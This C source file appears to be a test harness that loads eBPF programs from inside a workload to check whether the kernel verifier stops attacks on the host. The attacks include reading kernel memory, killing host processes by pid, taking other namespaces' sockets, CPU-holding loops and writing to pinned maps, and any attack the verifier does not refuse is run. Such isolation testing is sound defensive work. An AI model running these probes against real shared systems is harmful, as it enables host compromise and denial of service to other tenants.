// Attacks on the host by programs that a workload loads: each argument is one, and prints one line, `ATTACK RESULT ERRNO: LOG`,
// RESULT being 0 or -1, LOG the first line of the verifier's log. An attack that is not refused is tried out.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { MAP_CREATE = 0, MAP_UPDATE = 2, PROG_LOAD = 5, OBJ_GET = 7, PROG_ATTACH = 8, TEST_RUN = 10, BTF_LOAD = 18 };
enum { SOCKET_FILTER = 1, SCHED_CLS = 3, XDP = 6, CGROUP_SKB = 8, SK_SKB = 14 };

struct insn { uint8_t code, regs; int16_t off; int32_t imm; };
#define I(c, d, s, o, i) ((struct insn){ c, (d) | (s) << 4, o, i })
#define MOV(r, v) I(0xb7, r, 0, 0, v)
#define COPY(d, s) I(0xbf, d, s, 0, 0)
#define WIDE(r, s, low, high) I(0x18, r, s, 0, (int32_t)(low)), I(0, 0, 0, 0, (int32_t)(high))
#define HELPER(n) I(0x85, 0, 0, 0, n)
#define FUNCTION(distance) I(0x85, 0, 1, 0, distance)
#define KFUNC(id) I(0x85, 0, 2, 0, (int32_t)(id))
#define EXIT I(0x95, 0, 0, 0, 0)
#define COUNT(a) (sizeof(a) / sizeof *(a))

static uint8_t attr[256];
static char verifier[4 << 20];
static void put32(unsigned at, uint32_t value) { memcpy(attr + at, &value, 4); }
static void put64(unsigned at, uint64_t value) { memcpy(attr + at, &value, 8); }
static long bpf(int cmd) { return syscall(SYS_bpf, cmd, attr, cmd == PROG_LOAD ? 168 : 120); }

static void say(const char *attack, long result) {
	int error = result < 0 ? errno : 0;
	verifier[strcspn(verifier, "\n")] = 0;
	printf("%s %d %d: %s\n", attack, result < 0 ? -1 : 0, error, verifier);
	fflush(stdout);
	verifier[0] = 0;
}

// The id of a function or variable in the kernel's BTF: its kind is 12 or 14.
static uint32_t symbol(const char *name, unsigned wanted) {
	static uint8_t *btf;
	static long size;
	if (!btf) {
		int fd = open("/sys/kernel/btf/vmlinux", O_RDONLY);
		btf = malloc(32 << 20);
		for (long n; (n = read(fd, btf + size, (32 << 20) - size)) > 0;) size += n;
	}
	uint32_t header[6], id = 1;
	memcpy(header, btf, sizeof header);
	const uint8_t *types = btf + header[1] + header[2], *end = types + header[3];
	const char *names = (const char *)btf + header[1] + header[4];
	for (; types < end; id++) {
		uint32_t type[3];
		memcpy(type, types, sizeof type);
		unsigned kind = type[1] >> 24 & 31, count = type[1] & 0xffff;
		if (kind == wanted && !strcmp(names + type[0], name)) return id;
		types += 12;
		switch (kind) {
		case 1: case 14: case 17: types += 4; break;
		case 3: types += 12; break;
		case 4: case 5: case 15: case 19: types += 12 * count; break;
		case 6: case 13: types += 8 * count; break;
		}
	}
	return 0; // an older kernel; no function has this id
}

static long map_of(uint32_t type, uint32_t value) {
	memset(attr, 0, sizeof attr);
	put32(0, type); put32(4, 4); put32(8, value); put32(12, 1);
	return bpf(MAP_CREATE);
}
// The kernel reads BTF and the types of the functions, `struct bpf_func_info`, if there is BTF.
static long load_typed(uint32_t type, uint32_t attach, const struct insn *code, unsigned count, long btf, const uint32_t *functions, unsigned n) {
	memset(attr, 0, sizeof attr);
	put32(0, type); put32(4, count); put64(8, (uintptr_t)code); put64(16, (uintptr_t)"GPL");
	put32(24, 1); put32(28, sizeof verifier); put64(32, (uintptr_t)verifier);
	memcpy(attr + 48, "attack", 6);
	put32(68, attach);
	if (n) { put32(72, btf); put32(76, 8); put64(80, (uintptr_t)functions); put32(88, n); }
	return bpf(PROG_LOAD);
}
static long load(uint32_t type, uint32_t attach, const struct insn *code, unsigned count) {
	return load_typed(type, attach, code, count, 0, 0, 0);
}
static void run(long program) {
	static uint8_t packet[64];
	if (program < 0) return;
	memset(attr, 0, 80);
	put32(0, program); put32(8, sizeof packet); put64(16, (uintptr_t)packet); put32(32, 1);
	packet[12] = 8;
	syscall(SYS_bpf, TEST_RUN, attr, 80);
}

// Types: 1 u64; 2 pointer; 3 u64 (*)(pointer); 4 the program; 5 a global function; 6 its tag.
static long btf(const char *tag) {
	uint32_t types[] = { 1, 1 << 24, 8, 64, 0, 2 << 24, 0, 0, 13 << 24 | 1, 1, 7, 2, 9, 12 << 24 | 1, 3, 5, 12 << 24 | 1, 3, 14, 17 << 24, 5, 0 };
	static uint8_t bytes[256];
	char names[64] = "\0u64\0f\0p\0main\0";
	strcpy(names + 14, tag);
	uint32_t length = sizeof types - (*tag ? 0 : 16), text = 15 + strlen(tag);
	uint32_t header[6] = { 0x1eb9f, 24, 0, length, length, text };
	memcpy(bytes, header, 24); memcpy(bytes + 24, types, length); memcpy(bytes + 24 + length, names, text);
	memset(attr, 0, sizeof attr);
	put64(0, (uintptr_t)bytes); put32(16, 24 + length + text);
	put64(8, (uintptr_t)verifier); put32(20, sizeof verifier); put32(24, 1);
	return bpf(BTF_LOAD);
}

// A number as a pointer to any type: its memory is readable.
static void cast(const char *attack) {
	struct insn code[] = { WIDE(1, 0, 0x81000000, 0xffffffff), MOV(2, 0), KFUNC(symbol("bpf_rdonly_cast", 12)), I(0x79, 0, 0, 0, 0), MOV(0, 0), EXIT };
	say(attack, load(SOCKET_FILTER, 0, code, COUNT(code)));
}
static void dynptr(const char *attack) {
	struct insn code[] = { COPY(1, 10), I(0x07, 1, 0, 0, -16), MOV(2, 0), MOV(3, 8), WIDE(4, 0, 0x81000000, 0xffffffff),
		KFUNC(symbol("bpf_probe_read_kernel_dynptr", 12)), MOV(0, 0), EXIT };
	say(attack, load(SOCKET_FILTER, 0, code, COUNT(code)));
}
// No kfunc: the caller of a global function passes a number for an argument that the tag makes a pointer.
static void untrusted(const char *attack) {
	struct insn code[] = { WIDE(1, 0, 0x81000000, 0xffffffff), FUNCTION(2), MOV(0, 0), EXIT, I(0x79, 0, 1, 0, 0), EXIT };
	uint32_t functions[] = { 0, 4, 5, 5 };
	say(attack, load_typed(SOCKET_FILTER, 0, code, COUNT(code), btf("arg:untrusted"), functions, 2));
}
static void variable(const char *attack, const char *name) {
	struct insn code[] = { WIDE(1, 3, symbol(name, 14), 0), HELPER(154), I(0x79, 0, 0, 0, 0), MOV(0, 0), EXIT };
	say(attack, load(SOCKET_FILTER, 0, code, COUNT(code)));
}
// SIGKILL to a process by its number on the host.
static void kill_process(const char *attack, uint32_t type, uint32_t attach, int pid) {
	struct insn code[] = { MOV(1, pid), KFUNC(symbol("bpf_task_from_pid", 12)), I(0x15, 0, 0, 7, 0), COPY(6, 0), COPY(1, 0), MOV(2, 9), MOV(3, 0), MOV(4, 0),
		KFUNC(symbol("bpf_send_signal_task", 12)), COPY(1, 6), KFUNC(symbol("bpf_task_release", 12)), MOV(0, 2), EXIT };
	long program = load(type, attach, code, COUNT(code));
	say(attack, program);
	run(program);
}
// A listening socket of another network namespace, by the number that this one knows it by.
static void take(const char *attack, uint32_t type, uint32_t attach, int helper) {
	struct insn code[] = { MOV(2, 0), I(0x7b, 10, 2, -8, 0), I(0x7b, 10, 2, -16, 0), COPY(2, 10), I(0x07, 2, 0, 0, -16), MOV(3, 12), MOV(4, 0), MOV(5, 0),
		HELPER(helper), I(0x15, 0, 0, 2, 0), COPY(1, 0), HELPER(86), MOV(0, 2), EXIT };
	say(attack, load(type, attach, code, COUNT(code)));
}
// A loop in a function that another loop calls.
static void hold_goto(const char *attack) {
	struct insn code[] = { MOV(6, 0), FUNCTION(4), I(0xe5, 0, 0, 1, 0), I(0x05, 0, 0, -3, 0), MOV(0, 1), EXIT, MOV(0, 0), I(0xe5, 0, 0, 1, 0),
		I(0x05, 0, 0, -2, 0), EXIT };
	long program = load(SOCKET_FILTER, 0, code, COUNT(code));
	say(attack, program);
}
static void hold_loop(const char *attack, int rounds, int nested) {
	struct insn code[] = { MOV(1, rounds), WIDE(2, 4, 6, 0), MOV(3, 0), MOV(4, 0), HELPER(181), MOV(0, 0), EXIT,
		/* 8 */ MOV(0, 0), EXIT, MOV(1, rounds), WIDE(2, 4, -4, 0), MOV(3, 0), MOV(4, 0), HELPER(181), MOV(0, 0), EXIT };
	code[1].imm = (nested ? 10 : 8) - 2;
	say(attack, load(SOCKET_FILTER, 0, code, nested ? COUNT(code) : 10));
}
// Many loops, one after the other. The verifier explores a callback once for each of them, and not in all rounds.
static void hold_many(const char *attack, unsigned loops) {
	enum { CALL = 6, BODY = 100, MOST = 64 };
	static struct insn code[MOST * CALL + 2 + BODY + 1];
	// 1 u64; 2 u64 (*)(void); 3 the program, global; 4 the callback, static.
	uint32_t types[] = { 1, 1 << 24, 8, 64, 0, 13 << 24, 1, 5, 12 << 24 | 1, 2, 5, 12 << 24, 2 };
	static const char names[] = "\0u64\0f";
	static uint8_t bytes[128];
	unsigned callback = loops * CALL + 2, n = 0;
	for (unsigned i = 0; i < loops; i++) {
		code[n++] = MOV(1, 65536);
		code[n] = I(0x18, 2, 4, 0, callback - n - 1); n++;
		code[n++] = I(0, 0, 0, 0, 0);
		code[n++] = MOV(3, 0); code[n++] = MOV(4, 0); code[n++] = HELPER(181);
	}
	code[n++] = MOV(0, 0); code[n++] = EXIT;
	for (unsigned i = 0; i < BODY; i++) code[n++] = MOV(0, 0);
	code[n++] = EXIT;
	uint32_t header[6] = { 0x1eb9f, 24, 0, sizeof types, sizeof types, sizeof names }, functions[] = { 0, 3, callback, 4 };
	memcpy(bytes, header, 24); memcpy(bytes + 24, types, sizeof types); memcpy(bytes + 24 + sizeof types, names, sizeof names);
	memset(attr, 0, sizeof attr);
	put64(0, (uintptr_t)bytes); put32(16, 24 + sizeof types + sizeof names);
	put64(8, (uintptr_t)verifier); put32(20, sizeof verifier); put32(24, 1);
	long loaded = bpf(BTF_LOAD);
	if (loaded < 0) { say(attack, loaded); return; }
	verifier[0] = 0;
	long program = load_typed(SOCKET_FILTER, 0, code, n, loaded, functions, 2);
	if (program >= 0) verifier[0] = 0;
	say(attack, program);
}
static void calls(const char *attack, uint32_t type, uint32_t attach, int helper) {
	struct insn code[] = { MOV(1, 0), MOV(2, 0), MOV(3, 0), MOV(4, 0), MOV(5, 0), HELPER(helper), MOV(0, 0), EXIT };
	say(attack, load(type, attach, code, COUNT(code)));
}

// A program that writes to a map which is pinned.
static void pinned(const char *attack, const char *path) {
	memset(attr, 0, sizeof attr);
	put64(0, (uintptr_t)path);
	if (access(path, R_OK) == 0 && access(path, W_OK)) put32(12, 1 << 3 /* BPF_F_RDONLY */);
	long map = bpf(OBJ_GET);
	if (map < 0) { printf("%s cannot open %s: %s\n", attack, path, strerror(errno)); return; }
	struct insn code[] = { WIDE(1, 2, map, 0), MOV(2, 7), I(0x63, 1, 2, 0, 0), MOV(0, 0), EXIT };
	long program = load(SOCKET_FILTER, 0, code, COUNT(code));
	say(attack, program);
	run(program);
}
// A verdict on the data of all sockets that someone else puts into a map.
static void verdict(const char *attack, const char *path) {
	struct insn code[] = { MOV(0, 1), EXIT };
	long program = load(SK_SKB, 5, code, 2), map = 0;
	if (path) {
		memset(attr, 0, sizeof attr);
		put64(0, (uintptr_t)path);
		map = bpf(OBJ_GET);
	}
	if (program < 0 || map < 0) { printf("%s cannot: program %ld, map %ld, errno %d\n", attack, program, map, errno); return; }
	if (!path) map = map_of(15, 4);
	if (map < 0) { say(attack, map); return; }
	memset(attr, 0, sizeof attr);
	put32(0, map); put32(4, program); put32(8, 5);
	long attached = syscall(SYS_bpf, PROG_ATTACH, attr, 32);
	say(attack, attached);
}

int main(int argc, char **argv) {
	for (int i = 1; i < argc; i++) {
		const char *attack = argv[i];
		if (!strcmp(attack, "cast")) cast(attack);
		else if (!strcmp(attack, "dynptr")) dynptr(attack);
		else if (!strcmp(attack, "untrusted")) untrusted(attack);
		else if (!strcmp(attack, "variable")) variable(attack, "runqueues");
		else if (!strcmp(attack, "kill-xdp")) kill_process(attack, XDP, 37, atoi(argv[++i]));
		else if (!strcmp(attack, "kill-cgroup")) kill_process(attack, CGROUP_SKB, 0, atoi(argv[++i]));
		else if (!strcmp(attack, "take-xdp")) take(attack, XDP, 37, 99);
		else if (!strcmp(attack, "take-tc")) take(attack, SCHED_CLS, 46, 84);
		else if (!strcmp(attack, "take-cgroup")) take(attack, CGROUP_SKB, 0, 85);
		else if (!strcmp(attack, "hold-goto")) hold_goto(attack);
		else if (!strcmp(attack, "hold-loop")) hold_loop(attack, 1 << 23, 0);
		else if (!strcmp(attack, "hold-nested")) hold_loop(attack, 1 << 16, 1);
		else if (!strcmp(attack, "hold-many")) hold_many(attack, 64);
		else if (!strcmp(attack, "few-loops")) hold_many(attack, 4);
		else if (!strncmp(attack, "helper-", 7)) calls(attack, SCHED_CLS, 46, atoi(attack + 7));
		else if (!strcmp(attack, "cpumap")) say(attack, map_of(16, 4));
		else if (!strcmp(attack, "sockmap")) say(attack, map_of(15, 4));
		else if (!strcmp(attack, "pinned")) pinned(attack, argv[++i]);
		else if (!strcmp(attack, "verdict")) verdict(attack, argv[++i]);
		else if (!strcmp(attack, "wait")) { char line[8]; printf("waiting\n"); fflush(stdout); if (!fgets(line, sizeof line, stdin)) return 1; }
		else { fprintf(stderr, "unknown attack %s\n", attack); return 2; }
	}
	return 0;
}
